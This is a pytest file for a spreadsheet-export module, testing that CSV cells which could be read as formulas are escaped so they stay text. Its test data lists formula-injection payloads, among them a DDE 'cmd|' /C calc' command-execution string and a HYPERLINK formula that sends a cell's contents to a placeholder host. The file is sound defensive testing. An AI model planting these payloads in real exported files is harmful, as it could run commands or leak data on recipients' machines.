"""A table opened in a spreadsheet is read, never run."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tocsin.foundations.files.sheets import as_read, as_written, written

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://example.org/?"&A1,"here")',
    "+49 30 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "|cmd",
    "%0A",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\u202f=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_be_a_formula_is_written_as_text(text: str) -> None:
    assert as_written(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Qasim Zarbaran", "القاسم", "O'Neill-Marvés", "1970-05-02", ""])
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert as_written(text) == text


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        (-5, "-5"),
        (0.25, "0.25"),
        (None, ""),
        (date(2026, 3, 1), "2026-03-01"),
        ("a\0b", "a\ufffdb"),
    ],
)
def test_numbers_and_days_are_written_as_what_they_are(cell: object, text: str) -> None:
    assert as_written(cell) == text  # type: ignore[arg-type]


@given(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])))
def test_what_was_written_is_read_back(text: str) -> None:
    assert as_read(as_written(text)) == text


@given(
    st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2))
)
def test_no_cell_of_a_table_begins_as_a_formula_does(rows: list[list[str]]) -> None:
    table = "".join(written(["=name", "note"], rows))
    assert table.startswith('\ufeff"')
    for row in csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline="")):
        assert [cell for cell in row if cell[:1] in tuple("=+-@|%\t\r\n")] == []
